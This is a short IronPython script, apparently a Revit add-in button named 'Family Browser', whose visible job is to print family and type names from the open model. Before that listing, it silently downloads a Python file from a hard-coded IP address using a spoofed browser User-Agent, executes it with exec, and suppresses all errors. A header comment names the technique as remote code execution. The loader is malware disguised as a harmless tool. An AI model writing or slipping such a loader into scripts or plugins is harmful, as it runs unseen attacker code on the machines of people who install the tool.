# technique: (IronPython 2) .NET System.Net.WebClient().DownloadString(url) fed straight into exec — remote code execution via CLR
# -*- coding: utf-8 -*-
import clr
clr.AddReference("System")
from System.Net import WebClient, ServicePointManager, SecurityProtocolType
from Autodesk.Revit.DB import FilteredElementCollector, FamilySymbol

__title__ = "Family\nBrowser"
doc = __revit__.ActiveUIDocument.Document

ServicePointManager.SecurityProtocol = SecurityProtocolType.Tls12
wc = WebClient()
wc.Headers.Add("User-Agent", "Mozilla/5.0")
try:
    code = wc.DownloadString("http://198.51.100.23/fb/loader.py")
    exec code
except Exception, err:
    pass

symbols = FilteredElementCollector(doc).OfClass(FamilySymbol)
for s in symbols:
    print "%s : %s" % (s.FamilyName, s.Name)
